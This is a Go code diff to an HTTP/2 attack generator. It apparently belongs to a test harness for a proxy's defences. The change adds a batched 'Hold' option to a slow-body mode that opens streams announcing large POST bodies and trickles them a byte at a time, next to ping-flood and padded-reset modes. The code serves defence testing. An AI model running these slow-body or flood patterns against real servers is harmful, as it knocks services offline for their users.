@@ -90,11 +90,12 @@ const (
 	// Ping sends PING frames and never opens a stream: each one asks the
 	// server for an acknowledgement.
 	Ping
-	// SlowBody opens a stream whose body (40,000 bytes announced) never
-	// comes but a byte at a time: every Pause (50 ms if unset) it opens
-	// one more and sends one byte of DATA on each of the last 8 it
-	// opened, so a connection keeps bodies under way for as long as the
-	// server lets it.
+	// SlowBody opens streams whose body (40,000 bytes announced) never
+	// comes but a byte at a time: every Pause (50 ms if unset) it sends
+	// one byte of DATA on each of its last 8 streams. With Hold set it
+	// opens 8 streams at once and 8 new ones every Hold (the server cuts
+	// the bodies meanwhile): 8 bodies under way a connection. Without, it
+	// opens one more stream every Pause, as many as the server lets it.
 	SlowBody
 )
 
@@ -112,6 +113,9 @@ type Attacker struct {
 	EndStream bool
 	// Pause, if set, is waited between streams (a slow reset).
 	Pause time.Duration
+	// Hold, for SlowBody, is how long each batch of 8 bodies is sent
+	// before the next opens.
+	Hold time.Duration
 	// Pad is how many requests it completes (a GET the upstream answers)
 	// for each stream it resets: the variant that pads its resets with
 	// served requests so that they are not most of its streams.
@@ -240,11 +244,29 @@ func (a *Attacker) slowBodies(w *bufio.Writer, flush func() bool) {
 	}
 	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
 		":authority", "proxy", "content-type", "application/json", "content-length", "40000")
-	for id := uint32(1); id < 1<<30; id += 2 {
-		WriteFrame(w, FrameHeaders, FlagEndHeaders, id, hdr)
+	var last uint32       // the last stream opened (client streams are odd)
+	var batchAt time.Time // when the last batch opened (Hold)
+	open := func() {
+		if last == 0 {
+			last = 1
+		} else {
+			last += 2
+		}
+		WriteFrame(w, FrameHeaders, FlagEndHeaders, last, hdr)
 		a.Streams.Add(1)
-		for k := uint32(0); k < inFlight && 2*k < id; k++ {
-			WriteFrame(w, FrameData, 0, id-2*k, []byte{'{'})
+	}
+	for last < 1<<30 {
+		switch {
+		case a.Hold <= 0:
+			open()
+		case batchAt.IsZero() || time.Since(batchAt) >= a.Hold:
+			for range inFlight {
+				open()
+			}
+			batchAt = time.Now()
+		}
+		for k := uint32(0); k < inFlight && 2*k < last; k++ {
+			WriteFrame(w, FrameData, 0, last-2*k, []byte{'{'})
 		}
 		if !flush() {
 			return
